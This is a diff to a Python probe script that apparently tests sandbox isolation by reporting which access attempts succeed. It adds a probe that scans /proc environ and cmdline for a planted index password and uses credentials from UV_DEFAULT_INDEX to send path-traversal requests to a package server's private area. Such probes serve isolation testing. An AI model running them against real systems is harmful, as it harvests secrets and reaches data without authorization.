@@ -4,6 +4,7 @@ tries.py        tries all and prints as JSON what worked, by name, and what came
 tries.py WHO    tells that to the server's collector (servers.py), if it reaches that
 """
 
+import base64
 import contextlib
 import ctypes
 import glob
@@ -18,6 +19,7 @@ import stat
 import subprocess
 import sys
 import tempfile
+import urllib.request
 
 # Where anybody can write who sees the whole server, and what is whose.
 OPEN = "/opt/hostile/open"
@@ -98,6 +100,25 @@ def see():
         yield "see the journal", len(journal)
 
 
+def passwords():
+    """Find the password of the index, or have what else is on its server."""
+    password = b"planted-index"
+    forms = (password, base64.b64encode(b"reader:" + password))
+    told = [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]
+    for path in told:
+        with contextlib.suppress(OSError):
+            if any(form in pathlib.Path(path).read_bytes() for form in forms):
+                yield "know the password of the index", path
+    # The address that packages are to be had from, and who may have them there.
+    before, at, place = os.environ.get("UV_DEFAULT_INDEX", "").removeprefix("http://").rpartition("@")
+    if at:
+        headers = {"Authorization": "Basic " + base64.b64encode(before.encode()).decode()}
+        for path in ("/private", "/simple/../private", "/simple/%2e%2e/private"):
+            request = urllib.request.Request(f"http://{place.partition('/')[0]}{path}", headers=headers)
+            with contextlib.suppress(OSError), urllib.request.urlopen(request, timeout=5) as answer:
+                yield "read what else is on the server of the index", answer.read(99).decode()
+
+
 def connect():
     """Connect to what is somebody else's, or by what is no web."""
     for path in [*glob.glob("/run/gunicorn-shop/*.sock"), "/srv/shop/current/app.sock", "/run/systemd/private"]:
@@ -151,13 +172,13 @@ def rise():
 
 
 # Without a walk through all folders, and without what a build may do: try a program that it compiled.
-QUICKLY = (read, others_places, see, connect, rise)
+QUICKLY = (read, others_places, see, passwords, connect, rise)
 
 
 def worked(*groups):
     """Return what worked of these groups, of all without one, by name."""
     found = {}
-    for group in groups or (read, others_places, write, execute, see, connect, rise):
+    for group in groups or (read, others_places, write, execute, see, passwords, connect, rise):
         found.update((name, str(how)) for name, how in group())
     return found
 
